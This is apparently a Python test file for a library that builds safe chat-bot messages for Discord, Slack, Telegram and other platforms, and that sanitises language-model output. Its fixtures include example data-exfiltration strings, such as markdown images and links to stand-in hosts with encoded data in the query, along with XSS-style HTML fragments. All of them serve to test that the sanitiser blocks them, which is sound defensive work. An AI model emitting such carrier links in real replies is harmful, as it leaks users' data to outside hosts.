"""`botsec.message`: payloads that ping and fetch nothing, and models' texts that lead nowhere."""

import json
import threading

import botsec
import html5lib
import pytest
from botsec import InputError, message
from hypothesis import example, given, settings
from hypothesis import strategies as st

HOSTS = ["docs.example.org", "*.example.com"]
PLATFORMS = ["discord", "slack", "telegram", "matrix", "teams", "whatsapp", "irc"]
MAKERS = [message.discord, message.slack, message.telegram, message.matrix, message.teams, message.whatsapp]


def clean(text, platform="discord", hosts=HOSTS):
    result = message.sanitize_llm(text, platform=platform, allow_hosts=hosts)
    again = message.sanitize_llm(result.text, platform=platform, allow_hosts=hosts)
    assert (again.text, again.findings) == (result.text, ())
    return result


def test_payloads_ping_and_fetch_nothing():
    assert message.discord("hi @everyone") == [
        {"content": botsec.escape.discord("hi @everyone"), "allowed_mentions": {"parse": []}, "flags": 4}
    ]
    slack = {"mrkdwn": False, "parse": "none", "link_names": False, "unfurl_links": False, "unfurl_media": False}
    assert message.slack("<!here> & co") == [{"text": "&lt;!here&gt; &amp; co", **slack}]
    assert message.telegram("*hi*") == [{"text": "*hi*", "link_preview_options": {"is_disabled": True}}]
    assert message.matrix("<b>") == [{"msgtype": "m.text", "body": "<b>", "m.mentions": {}}]
    assert message.teams("**x**") == [{"type": "message", "text": "**x**", "textFormat": "plain"}]
    assert message.whatsapp("x")[0]["text"] == {"body": "x", "preview_url": False}


def test_what_is_asked_for_is_switched_on():
    [payload] = message.discord(markup="<@80351110224678912>", mentions=[80351110224678912], previews=True)
    assert payload["allowed_mentions"] == {"parse": [], "users": ["80351110224678912"]}
    assert (payload["content"], payload["flags"]) == ("<@80351110224678912>", 0)
    [payload] = message.slack("<@U123> <@U9>", mentions=["U123"], previews=True)
    assert (payload["text"], payload["unfurl_links"]) == ("<@U123> &lt;@U9&gt;", True)
    [payload] = message.telegram(markup=botsec.render.telegram("<b>{x}</b>", x="<"))
    assert (payload["text"], payload["parse_mode"]) == ("<b>&lt;</b>", "HTML")
    assert message.telegram(markup="*x*", parse_mode="MarkdownV2")[0]["parse_mode"] == "MarkdownV2"
    [payload] = message.matrix("x", markup="<b>x</b>", mentions=["@a:example.org"])
    assert payload["formatted_body"] == "<b>x</b>" and payload["m.mentions"] == {"user_ids": ["@a:example.org"]}


@pytest.mark.parametrize("make", MAKERS)
def test_an_empty_text_is_the_strangers_fault_and_a_wrong_argument_is_not(make):
    for text in ("", " \n ", "\u200b"):
        with pytest.raises(InputError) as caught:
            make(text)
        assert caught.value.code == "input.message"
    for wrong in (5, b"x", ["x"]):
        with pytest.raises(TypeError):
            make(wrong)
    for parts in ("2", True, 1.0):
        with pytest.raises(TypeError, match="max_parts"):
            make("x", max_parts=parts)
    for parts in (0, -1, 1001, 10**40):
        with pytest.raises(ValueError, match="max_parts"):
            make("x", max_parts=parts)
    with pytest.raises(InputError, match="too long"):
        make("x" * 500_000)
    assert make("x" * 100)
    json.dumps(make("a\ud800b" + "\x00"))


def test_wrong_options_are_refused():
    for mentions in ("80351110224678912", {"1"}, [None], [True], [1.5]):
        with pytest.raises(TypeError):
            message.discord("x", mentions=mentions)
    for mentions in (["everyone"], [0], [-1], [10**30], ["1 "], ["0123"], ["1"] * 101):
        with pytest.raises(ValueError, match="mentions"):
            message.discord("x", mentions=mentions)
    with pytest.raises(ValueError, match="mentions"):
        message.slack("x", mentions=["bob"])
    with pytest.raises(TypeError, match="previews"):
        message.discord("x", previews=1)
    with pytest.raises(ValueError, match="parse_mode"):
        message.telegram(markup="x", parse_mode="Markdown")
    for neither in ({}, {"text": "x", "markup": "y"}):
        with pytest.raises(ValueError, match="either"):
            message.discord(**neither)
    with pytest.raises(ValueError, match="platform"):
        message.split("x", platform="icq")
    with pytest.raises(ValueError, match="platform"):
        message.sanitize_llm("x", platform="Discord")


@given(st.text(max_size=6000))
@settings(max_examples=30, deadline=None)
def test_parts_fit_their_platform(text):
    sizes = {
        "discord": (2000, len),
        "slack": (4000, lambda t: len(t.encode("utf-16-le")) // 2),
        "telegram": (4096, lambda t: len(t.encode("utf-16-le")) // 2),
        "matrix": (40000, lambda t: len(json.dumps(t, ensure_ascii=False).encode()) - 2),
        "teams": (40000, lambda t: len(json.dumps(t, ensure_ascii=False).encode("utf-16-le")) // 2 - 2),
        "whatsapp": (4096, lambda t: len(t.encode("utf-16-le")) // 2),
        "irc": (400, lambda t: len(t.encode())),
    }
    for platform, (limit, size) in sizes.items():
        try:
            parts = message.split(text * 3, platform=platform, max_parts=1000)
        except InputError:
            continue
        assert all(0 < size(part) <= limit for part in parts)


@pytest.mark.parametrize(
    ("platform", "unit", "fits"),
    [
        ("discord", "x", 2000),
        ("discord", "😀", 2000),
        ("slack", "x", 4000),
        ("slack", "😀", 2000),
        ("telegram", "x", 4096),
        ("telegram", "😀", 2048),
        ("whatsapp", "x", 4096),
        ("whatsapp", "😀", 2048),
        ("matrix", "x", 40000),
        ("matrix", '"', 20000),
        ("matrix", "😀", 10000),
        ("teams", "x", 40000),
        ("teams", '"', 20000),
        ("teams", "😀", 20000),
        ("irc", "x", 400),
        ("irc", "😀", 100),
    ],
)
def test_the_limit_holds_to_the_unit(platform, unit, fits):
    assert message.split(unit * fits, platform=platform) == [unit * fits]
    assert message.split(unit * (fits + 1), platform=platform) == [unit * fits, unit]


@pytest.mark.parametrize("platform", ["discord", "slack", "teams", "whatsapp"])
def test_a_block_of_code_that_is_cut_is_a_block_on_both_sides(platform):
    lines = [f"print({number})" for number in range(6000)]
    parts = message.split("\n".join(["a", "```", *lines, "```", "end"]), platform=platform, max_parts=100)
    assert len(parts) > 1
    read = []
    for number, part in enumerate(parts):
        first, last = number == 0, number == len(parts) - 1
        assert part.count("```") == 2
        assert part.startswith("a\n```\n" if first else "```\n") and part.endswith("\n```\nend" if last else "\n```")
        read += part.split("```")[1].strip("\n").split("\n")
    assert read == lines


@pytest.mark.parametrize(
    ("text", "platform", "carrier"),
    [
        ("Summary done.\n\n![chart][c]\n\n[c]: https://collect.test/p.png?d=c2FsYXJ5IGxpc3Q", "teams", "collect.test"),
        ("Open [the report](<https://collect.test/r?d=q3 numbers>).", "teams", "collect.test"),
        ("Details: <https://collect.test/?q=board>", "discord", "collect.test"),
        ("<https://collect.test/unfurl/k1|your report>", "slack", "collect.test"),
        ("https://docs.example.org/fetch?url=https%3A%2F%2Fcollect.test%2F%3Fd%3Dx", "teams", "collect"),
        ('<img width=1 src="https://collect.test/b.gif?k=v">', "matrix", "collect.test"),
        ("[status]: //collect.test/x\n\n[status]", "matrix", "collect.test"),
        ("go to collect.test/login", "telegram", "collect.test"),
        ("[docs.example.org](https://collect.test)", "discord", "collect.test"),
        ("https://docs.example.org@collect.test/", "whatsapp", "collect.test"),
        ('<https://docs.example.org/<a href="https://collect.test/?d=x">', "matrix", "collect.test"),
        ('<https://docs.example.org/<a href="//collect.test/?d=x">', "teams", "collect.test"),
        ('<https://docs.example.org/|<a href="//collect.test/?d=x">', "slack", "collect.test"),
        ("<https://docs.example.org/[a](//collect.test/?d=x)>", "discord", "collect.test"),
    ],
)
def test_a_carrier_of_data_is_stopped(text, platform, carrier):
    result = clean(text, platform)
    assert carrier not in result.text and result.findings
    assert "?d=" not in result.text and "c2Fs" not in result.text
    assert carrier in text


def test_findings_say_what_and_where_and_no_more(monkeypatch):
    monkeypatch.setenv("MESSAGE_KEY", "zq-horse-battery-0011")
    botsec.secret("env:MESSAGE_KEY")
    result = clean("![x](https://evil.test/?k=zq-horse-battery-0011) [a](https://evil.test) [b](https://evil.test/2)")
    assert [(f.kind, f.host, f.count) for f in result.findings] == [("image", None, 1), ("link", "evil.test", 2)]
    assert "battery" not in repr(result) + repr(result.findings) + result.text
    assert clean("it is zq-horse-battery-0011").text == "it is [redacted]"
    finding = result.findings[1]
    assert finding == clean("[a](https://evil.test) evil.test").findings[0] and len({finding, finding}) == 1
    for name in ("kind", "host", "count", "other"):
        with pytest.raises(AttributeError):
            setattr(finding, name, "x")
    with pytest.raises(AttributeError):
        result.text = "x"


def test_wrong_types_and_odd_strings():
    for wrong in (None, 5, b"x"):
        with pytest.raises(TypeError):
            message.sanitize_llm(wrong, platform="discord")
    for hosts in ("docs.example.org", 5, None, [5], {"a": 1}):
        with pytest.raises(TypeError):
            message.sanitize_llm("x", platform="discord", allow_hosts=hosts)
    for hosts in (["*.com"], [""], ["https://a.b/c"], ["a b"]):
        with pytest.raises(ValueError, match="allow_hosts"):
            message.sanitize_llm("x", platform="discord", allow_hosts=hosts)
    assert set(clean("a\ud800b").text) == set("a\ufffdb")
    assert clean("").text == ""
    assert clean(type("Text", (str,), {})("see evil.test")).text == "see evil[.]test"


FETCHES = {"src", "href", "srcset", "action", "data", "poster", "background", "style", "formaction", "xlink:href"}
TAGS = st.sampled_from(
    ["<a href=", "<img src=", "<b", "<svg/onload=", "<iframe src=", "<a\nhref='", ">", "</a>", '"', "'", "=", " ", "/", "<!--", "-->",
     "<style>", "x", "//evil.test", "https://evil.test/", "https://docs.example.org/", "&#104;ttps:", "javascript:x", "\\", "\t",
     "<math><mi xlink:href=", "`", "\n", "<", "title", "class=x", "srcset='", "&colon;", "&quot;", "<p>", "</p>"]
)  # fmt: skip


@given(st.lists(TAGS, max_size=14).map("".join))
@example("<https://docs.example.org/<a href=>")
@settings(max_examples=300, deadline=None)
def test_a_browser_finds_nothing_to_fetch(text):
    tree = html5lib.parseFragment(clean(text, "matrix").text, namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag.lower() not in {"script", "style", "iframe", "svg", "math", "object", "base", "meta", "form"}
        for name, value in element.attrib.items():
            assert not str(name).lower().startswith("on"), text
            if str(name).rsplit("}", 1)[-1] in FETCHES:
                assert value.startswith(("https://docs.example.org", "http://docs.example.org")), (text, value)


PIECES = st.sampled_from(
    ["https://", "http:", "//", "evil.test", "evil.com", "docs.example.org", "a.example.com", "[", "](", ")", "<", ">", "|", "@", "\\",
     "/", "&#104;", "%2e", ".", ":", "t.me", "README.md", "1.2.3.4", "tg://", "ftp://", "user", "@user", "。", "．", "é", "а", "😀",
     "_", "~", "*", "“", "»", " ", "\n", "`", "=", "?q=", "#", "com", "www.", "\u200b", "\u0301", "mailto:", "ton", "-", "+", "[.]",
     "hxxp://", "<@1>", "x"]
)  # fmt: skip


@given(st.lists(PIECES, min_size=1, max_size=14).map("".join) | st.text(max_size=60))
@settings(max_examples=600, deadline=None)
def test_telegram_finds_no_link_beside_the_list(text):
    tdjson = pytest.importorskip("tdjson")
    shown = clean(text, "telegram").text
    request = json.dumps({"@type": "getTextEntities", "text": shown})
    units = shown.encode("utf-16-le")
    for entity in json.loads(tdjson.td_execute(request.encode()))["entities"]:
        kind = entity["type"]["@type"]
        start, end = entity["offset"] * 2, (entity["offset"] + entity["length"]) * 2
        part = units[start:end].decode("utf-16-le")
        assert kind not in ("textEntityTypeMention", "textEntityTypeTextUrl"), (text, shown)
        if kind in ("textEntityTypeUrl", "textEntityTypeEmailAddress"):
            place = part.split("://", 1)[1] if part.startswith(("http://", "https://")) else part
            for mark in "/?#":
                place = place.split(mark, 1)[0]
            place = place.rsplit("@", 1)[-1]
            # Telegram takes marks before a name for a part of it, where no one can register any.
            host = place.split(":")[0].rstrip(".").lower().lstrip("_~-+*=$!&'%")
            assert host == "docs.example.org" or host.endswith(".example.com"), (text, shown, part)


def test_threads_share_nothing_and_hostile_texts_come_back():
    results = []

    def work():
        for piece in ("[", "](", "<", "![", "http://", "`", "x@a.co", "<a ", "&#", "a.co "):
            results.append(clean(piece * (4000 // len(piece)), "telegram"))

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(results) == 40
